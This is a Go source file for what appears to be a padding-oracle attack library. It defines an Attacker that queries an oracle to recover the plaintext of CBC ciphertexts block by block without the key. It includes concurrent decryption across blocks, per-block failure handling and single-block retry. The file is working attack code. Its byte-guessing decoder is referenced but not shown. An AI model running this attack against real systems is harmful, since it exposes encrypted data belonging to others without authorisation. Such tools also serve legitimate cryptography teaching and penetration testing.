// Package attack recovers the plaintext of a CBC ciphertext from a padding
// oracle, one byte at a time, without the key.
package attack

import (
	"context"
	"errors"
	"fmt"

	"golang.org/x/sync/errgroup"

	"github.com/mario-areias/padding-oracle/oracle"
)

type Attacker struct {
	decoder *decoder
	cfg     Config
}

func New(o oracle.Oracle, cfg Config) (*Attacker, error) {
	cfg, err := cfg.withDefaults()
	if err != nil {
		return nil, err
	}

	return &Attacker{
		decoder: &decoder{
			oracle:    o,
			scheduler: NewScheduler(cfg.CandidateOrder, cfg.BlockSize),
			cfg:       cfg,
			logger:    cfg.Logger,
		},
		cfg: cfg,
	}, nil
}

// Result is the outcome of Decrypt. Blocks[k-1] holds ciphertext block k and
// is nil when that block failed. Plaintext is only set when every block was
// recovered.
type Result struct {
	Plaintext []byte
	Blocks    []*BlockState
	Failures  []*BlockError
}

// Decrypt recovers the plaintext of ciphertext, whose first block is the IV.
// Blocks are independent of each other and are decoded Config.Concurrency at
// a time.
//
// When some blocks fail the Result still carries the ones that succeeded and
// the error joins a *BlockError per failure.
func (a *Attacker) Decrypt(ctx context.Context, ciphertext []byte) (*Result, error) {
	blocks, err := Split(ciphertext, a.cfg.BlockSize)
	if err != nil {
		return nil, err
	}

	res := &Result{Blocks: make([]*BlockState, len(blocks)-1)}
	errs := make([]error, len(blocks)-1)

	var g errgroup.Group
	g.SetLimit(a.cfg.Concurrency)
	for k := 1; k < len(blocks); k++ {
		g.Go(func() error {
			s, err := a.decoder.decode(ctx, pairAt(blocks, k))
			if err != nil {
				errs[k-1] = err
				return nil
			}
			res.Blocks[k-1] = s
			return nil
		})
	}
	_ = g.Wait()

	for k, err := range errs {
		if err != nil {
			res.Failures = append(res.Failures, &BlockError{Block: k + 1, Err: err})
		}
	}

	if len(res.Failures) > 0 {
		if ctx.Err() != nil {
			return res, cancelled(ctx)
		}
		joined := make([]error, 0, len(res.Failures))
		for _, f := range res.Failures {
			a.cfg.Logger.Warn("block failed", "block", f.Block, "err", f.Err)
			joined = append(joined, f)
		}
		return res, errors.Join(joined...)
	}

	res.Plaintext, err = Assemble(res.Blocks)
	if err != nil {
		return res, err
	}
	return res, nil
}

// DecryptBlock recovers ciphertext block index alone, which is how a block
// named by a BlockError is retried.
func (a *Attacker) DecryptBlock(ctx context.Context, ciphertext []byte, index int) (*BlockState, error) {
	blocks, err := Split(ciphertext, a.cfg.BlockSize)
	if err != nil {
		return nil, err
	}
	if index < 1 || index >= len(blocks) {
		return nil, fmt.Errorf("block %d out of range 1..%d", index, len(blocks)-1)
	}

	s, err := a.decoder.decode(ctx, pairAt(blocks, index))
	if err != nil {
		return nil, &BlockError{Block: index, Err: err}
	}
	return s, nil
}
